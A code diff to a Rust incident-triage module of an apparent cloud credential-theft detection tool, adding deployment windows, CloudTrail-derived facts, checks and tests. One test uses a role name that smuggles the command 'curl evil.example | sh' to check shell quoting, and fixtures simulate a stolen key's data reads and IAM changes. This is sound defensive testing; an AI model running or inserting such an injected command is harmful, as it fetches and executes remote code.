@@ -8,16 +8,52 @@
 //! alerts, so they are the same for any thread count and input order.
 
 mod answers;
+mod checks;
 mod containment;
 mod correlate;
 mod escalation;
+pub mod facts;
 
-use credtrail_detect::{Alert, Severity};
-use credtrail_event::Timestamp;
+use credtrail_detect::{Activity, Alert, Severity};
+use credtrail_event::{Inventory, Timestamp};
 
 pub use answers::Answer;
+pub use checks::Check;
 pub use containment::Step;
 pub use escalation::{Decision, Escalation};
+pub use facts::Facts;
+
+/// Rules whose source address is the attacker's (the requester of an SSRF, the user of a stolen
+/// credential). An administrator's address on a configuration change is not one of them.
+pub(crate) const ATTACKER_RULES: &[&str] = &[
+    "instance-credential-exfiltration",
+    "instance-credential-recon",
+    "instance-credential-access-denied-burst",
+    "ssrf-metadata-request",
+    "metadata-proxy-abuse",
+    "imds-access-failures",
+];
+
+/// A change the organisation expects (config `[[deployment]]`): alerts wholly inside it, about
+/// its instances or roles, are what the deployment does.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DeploymentWindow {
+    pub name: String,
+    pub start: Timestamp,
+    pub end: Timestamp,
+    /// Instances it covers; with `roles` empty too, it covers every instance.
+    pub instances: Vec<String>,
+    pub roles: Vec<String>,
+}
+
+/// What triage knows besides the alerts.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct Context<'a> {
+    /// Every call of the workload credentials and what was done to instances.
+    pub activity: Option<&'a Activity>,
+    pub inventory: Option<&'a Inventory>,
+    pub windows: &'a [DeploymentWindow],
+}
 
 /// One incident: a set of alerts about one chain of events.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -31,6 +67,10 @@ pub struct Incident {
     pub last_evidence: Timestamp,
     pub escalation: Escalation,
     pub answers: Vec<Answer>,
+    /// The L1 checks done, with their outcomes.
+    pub checks: Vec<Check>,
+    /// The T2 facts: timeline, calls, data read, privilege changes, posture.
+    pub facts: Facts,
     pub containment: Vec<Step>,
 }
 
@@ -39,10 +79,10 @@ pub struct Incident {
 pub const GAP_SECONDS: i64 = 24 * 3600;
 
 /// Turns alerts (in output order) into incidents, most urgent first.
-pub fn incidents(alerts: &[Alert]) -> Vec<Incident> {
+pub fn incidents(alerts: &[Alert], context: &Context<'_>) -> Vec<Incident> {
     let mut out: Vec<Incident> = correlate::groups(alerts)
         .into_iter()
-        .map(|members| build(alerts, members))
+        .map(|members| build(alerts, members, context))
         .collect();
     out.sort_by(|a, b| {
         (b.escalation.decision, b.severity, a.first_evidence, &a.id).cmp(&(
@@ -55,22 +95,38 @@ pub fn incidents(alerts: &[Alert]) -> Vec<Incident> {
     out
 }
 
-fn build(alerts: &[Alert], members: Vec<usize>) -> Incident {
+fn build(alerts: &[Alert], members: Vec<usize>, context: &Context<'_>) -> Incident {
     let group: Vec<&Alert> = members.iter().map(|&i| &alerts[i]).collect();
     let mut ids: Vec<String> = group.iter().map(|a| a.id()).collect();
     ids.sort();
     let id = format!("inc-{:016x}", xxhash_rust::xxh3::xxh3_64(ids.join(",").as_bytes()));
     let severity = group.iter().map(|a| a.severity).max().unwrap_or(Severity::Info);
-    let first_evidence = group.iter().map(|a| a.first_seen).min().unwrap_or_default();
-    let last_evidence = group.iter().map(|a| a.last_seen).max().unwrap_or_default();
+    let facts = facts::gather(&group, context.activity, context.inventory);
+    // The timeline can start before the first alert: the command that read the credential.
+    let first_evidence = group
+        .iter()
+        .map(|a| a.first_seen)
+        .chain(facts.timeline.first().map(|m| m.time))
+        .min()
+        .unwrap_or_default();
+    let last_evidence = group
+        .iter()
+        .map(|a| a.last_seen)
+        .chain(facts.timeline.last().map(|m| m.time))
+        .max()
+        .unwrap_or_default();
+    let window = checks::window(&group, context.windows, context.activity);
+    let checks = checks::run(&group, &facts, context.windows, context.activity, &window);
     Incident {
         id,
         severity,
         first_evidence,
         last_evidence,
-        escalation: escalation::decide(&group),
+        escalation: escalation::decide(&group, &facts, &window),
         answers: answers::answer(&group),
-        containment: containment::plan(&group),
+        containment: containment::plan(&group, &facts),
+        checks,
+        facts,
         alerts: members,
     }
 }
@@ -149,7 +205,7 @@ mod tests {
     #[test]
     fn the_ssrf_the_host_read_and_the_credentials_use_are_one_escalated_incident() {
         let alerts = chain();
-        let found = incidents(&alerts);
+        let found = incidents(&alerts, &Context::default());
         assert_eq!(found.len(), 1, "{found:#?}");
         let inc = &found[0];
         assert_eq!(inc.alerts, vec![0, 1, 2, 3]);
@@ -189,7 +245,7 @@ mod tests {
             -10,
             on("i-0a1b2c3d4e5f60718", Some("203.0.113.10"), None),
         ));
-        let found = incidents(&alerts);
+        let found = incidents(&alerts, &Context::default());
         assert_eq!(found.len(), 1);
         let blocked: Vec<&str> = found[0]
             .containment
@@ -206,7 +262,7 @@ mod tests {
         let mut reversed = alerts.clone();
         reversed.reverse();
         let ids = |a: &[Alert]| -> Vec<(String, Vec<String>)> {
-            incidents(a)
+            incidents(a, &Context::default())
                 .into_iter()
                 .map(|i| {
                     let mut members: Vec<String> = i.alerts.iter().map(|&k| a[k].id()).collect();
@@ -241,7 +297,7 @@ mod tests {
                 on("i-03", None, None),
             ),
         ];
-        let found = incidents(&alerts);
+        let found = incidents(&alerts, &Context::default());
         assert_eq!(found.len(), 4, "{found:#?}");
     }
 
@@ -254,14 +310,17 @@ mod tests {
             on("i-01", None, None),
         );
         sdk.variant = Some("unlisted");
-        let found = incidents(&[sdk]);
+        let found = incidents(&[sdk], &Context::default());
         assert_eq!(found[0].escalation.decision, Decision::CloseBenign);
-        let found = incidents(&[alert(
-            "imds-access-failures",
-            Severity::Medium,
-            0,
-            on("i-01", None, None),
-        )]);
+        let found = incidents(
+            &[alert(
+                "imds-access-failures",
+                Severity::Medium,
+                0,
+                on("i-01", None, None),
+            )],
+            &Context::default(),
+        );
         assert_eq!(found[0].escalation.decision, Decision::Monitor);
         assert!(found[0].answers[2].answer.starts_with("yes"));
         assert!(
@@ -275,11 +334,253 @@ mod tests {
     fn a_hostile_role_name_cannot_break_out_of_the_command() {
         let mut e = on("i-01", Some("198.51.100.23"), Some("ASIAX"));
         e.role = Some("x'; curl evil.example | sh; '".into());
-        let found = incidents(&[alert("instance-credential-exfiltration", Severity::High, 0, e)]);
+        let found = incidents(
+            &[alert("instance-credential-exfiltration", Severity::High, 0, e)],
+            &Context::default(),
+        );
         let revoke = found[0].containment[0].command.clone().unwrap_or_default();
         assert!(
             revoke.contains(r"--role-name 'x'\''; curl evil.example | sh; '\'''"),
             "{revoke}"
         );
+    }
+
+    /// A CloudTrail call at `minute` after the alerts' epoch.
+    fn call(
+        minute: i64,
+        action: &str,
+        key: &str,
+        source: &str,
+        target: Option<&str>,
+        workload: bool,
+    ) -> credtrail_event::Event {
+        use credtrail_event::{Body, CloudApiCall, FileId, Identity, Origin, SourceAddress, Workload, WorkloadKind};
+        let (service, action) = action.split_once(':').unwrap_or(("s3", action));
+        credtrail_event::Event {
+            time: Timestamp::from_millis(1_772_358_000_000 + minute * 60_000),
+            origin: Origin {
+                file: FileId(0),
+                line: 1,
+                index: (minute + 1000) as u64,
+            },
+            body: Body::CloudApiCall(Box::new(CloudApiCall {
+                service: format!("{service}.amazonaws.com"),
+                action: action.to_string(),
+                identity: Identity {
+                    access_key: Some(key.to_string()),
+                    arn: Some(if workload {
+                        "arn:aws:sts::111122223333:assumed-role/shop-web-role/i-0a1b2c3d4e5f60718".into()
+                    } else {
+                        "arn:aws:iam::111122223333:user/deployer".into()
+                    }),
+                    ..Default::default()
+                },
+                workload: workload.then(|| Workload {
+                    kind: WorkloadKind::Ec2Instance,
+                    id: "i-0a1b2c3d4e5f60718".into(),
+                    role: "shop-web-role".into(),
+                }),
+                source: Some(SourceAddress::classify(source)),
+                target: target.map(str::to_string),
+                bytes_out: (action == "GetObject").then_some(2_000_000),
+                error_code: (action == "CreateUser").then(|| "AccessDenied".to_string()),
+                ..Default::default()
+            })),
+        }
+    }
+
+    fn activity_of(events: &[credtrail_event::Event]) -> Activity {
+        let mut activity = Activity::default();
+        for e in events {
+            activity.observe(e);
+        }
+        activity.finish();
+        activity
+    }
+
+    #[test]
+    fn the_attackers_reads_and_privilege_changes_are_facts_and_escalate_but_the_workloads_own_are_not() {
+        let activity = activity_of(&[
+            call(
+                -30,
+                "ssm:SendCommand",
+                "AKIAADMIN",
+                "203.0.113.9",
+                Some("i-0A1B2C3D4E5F60718"),
+                false,
+            ),
+            call(
+                1,
+                "s3:GetObject",
+                "ASIASAMPLEKEYSTOLEN1",
+                "198.51.100.23",
+                Some("s3://exports/a.csv"),
+                true,
+            ),
+            call(
+                2,
+                "s3:GetObject",
+                "ASIASAMPLEKEYSTOLEN1",
+                "10.0.0.5",
+                Some("s3://app/own.cfg"),
+                true,
+            ),
+            call(
+                3,
+                "iam:CreateUser",
+                "ASIASAMPLEKEYSTOLEN1",
+                "198.51.100.23",
+                Some("eve"),
+                true,
+            ),
+            call(
+                4,
+                "iam:CreateAccessKey",
+                "ASIASAMPLEKEYSTOLEN1",
+                "198.51.100.23",
+                Some("svc-reporting"),
+                true,
+            ),
+        ]);
+        let context = Context {
+            activity: Some(&activity),
+            ..Default::default()
+        };
+        let found = incidents(&chain(), &context);
+        let inc = &found[0];
+        assert_eq!(
+            inc.facts.data.s3_objects, 1,
+            "only the attacker's read: {:?}",
+            inc.facts.data
+        );
+        assert_eq!(inc.facts.data.s3_bytes, 2_000_000);
+        assert!(
+            inc.escalation
+                .reasons
+                .iter()
+                .any(|r| r.contains("read data: 1 S3 object(s) (2.0 MB)")),
+            "{:?}",
+            inc.escalation.reasons
+        );
+        assert!(inc
+            .escalation
+            .reasons
+            .iter()
+            .any(|r| r.contains("iam:CreateUser eve (AccessDenied)")));
+        // The timeline starts at the command sent to the instance, before any alert.
+        let first = &inc.facts.timeline[0];
+        assert!(
+            first
+                .what
+                .starts_with("ssm:SendCommand to i-0a1b2c3d4e5f60718 by arn:aws:iam::111122223333:user/deployer"),
+            "{first:?}"
+        );
+        assert_eq!(inc.first_evidence, first.time);
+        let calls = &inc.facts.credentials[0].calls;
+        assert!(
+            calls[0].attacker && calls.iter().any(|c| !c.attacker && c.source == "10.0.0.5"),
+            "{calls:?}"
+        );
+        // The key the attacker made is undone; the refused CreateUser needs nothing.
+        let steps: Vec<&str> = inc.containment.iter().map(|s| s.action.as_str()).collect();
+        assert!(
+            steps
+                .iter()
+                .any(|s| s.starts_with("Deactivate the access key created for svc-reporting")),
+            "{steps:?}"
+        );
+        assert!(!steps.iter().any(|s| s.contains(" eve ")), "{steps:?}");
+        // Sessions are revoked up to the attacker's last call, not only the last alert.
+        assert!(steps[0].contains("issued before 2026-03-01T09:44:00Z"), "{steps:?}");
+    }
+
+    #[test]
+    fn without_activity_an_incident_has_no_credential_facts_and_says_so_in_its_checks() {
+        let found = incidents(&chain(), &Context::default());
+        assert!(found[0].facts.credentials.is_empty());
+        assert!(found[0].facts.data.is_empty());
+        let posture = found[0]
+            .checks
+            .iter()
+            .find(|c| c.name == "metadata posture")
+            .map(|c| c.outcome.clone());
+        assert_eq!(
+            posture.as_deref(),
+            Some("i-0a1b2c3d4e5f60718: not in the inventory given")
+        );
+    }
+
+    fn routine_read(minute: i64) -> Alert {
+        let mut a = alert(
+            "imds-credential-read-unexpected-process",
+            Severity::Medium,
+            minute,
+            on("i-0a1b2c3d4e5f60718", None, None),
+        );
+        a.variant = Some("unlisted");
+        a
+    }
+
+    #[test]
+    fn a_declared_deployment_window_closes_routine_findings_but_never_a_stolen_credential() {
+        let window = DeploymentWindow {
+            name: "shop 4.2 rollout".into(),
+            start: Timestamp::from_millis(1_772_358_000_000 - 600_000),
+            end: Timestamp::from_millis(1_772_358_000_000 + 3_600_000),
+            instances: vec!["I-0A1B2C3D4E5F60718".into()],
+            roles: vec![],
+        };
+        let windows = [window];
+        let context = Context {
+            windows: &windows,
+            ..Default::default()
+        };
+        let found = incidents(&[routine_read(5)], &context);
+        assert_eq!(
+            found[0].escalation.decision,
+            Decision::CloseBenign,
+            "{:?}",
+            found[0].escalation
+        );
+        assert!(found[0].escalation.reasons[0].contains("shop 4.2 rollout"));
+        // Outside the window, or with the credential used elsewhere, the window changes nothing.
+        let found = incidents(&[routine_read(90)], &context);
+        assert_eq!(found[0].escalation.decision, Decision::Monitor);
+        let found = incidents(&chain(), &context);
+        assert_eq!(found[0].escalation.decision, Decision::EscalateT2);
+    }
+
+    #[test]
+    fn host_findings_right_after_the_instances_launch_close_as_bootstrap() {
+        let mut launch = call(
+            -10,
+            "ec2:RunInstances",
+            "AKIAADMIN",
+            "203.0.113.9",
+            Some("i-0a1b2c3d4e5f60718"),
+            false,
+        );
+        let activity = activity_of(std::slice::from_mut(&mut launch));
+        let context = Context {
+            activity: Some(&activity),
+            ..Default::default()
+        };
+        let found = incidents(&[routine_read(5)], &context);
+        assert_eq!(
+            found[0].escalation.decision,
+            Decision::CloseBenign,
+            "{:?}",
+            found[0].escalation
+        );
+        let window = found[0]
+            .checks
+            .iter()
+            .find(|c| c.name == "deployment window")
+            .map(|c| c.outcome.clone())
+            .unwrap_or_default();
+        assert!(window.contains("ec2:RunInstances"), "{window}");
+        // Two hours after the launch it is no longer the bootstrap.
+        let found = incidents(&[routine_read(120)], &context);
+        assert_eq!(found[0].escalation.decision, Decision::Monitor);
     }
 }
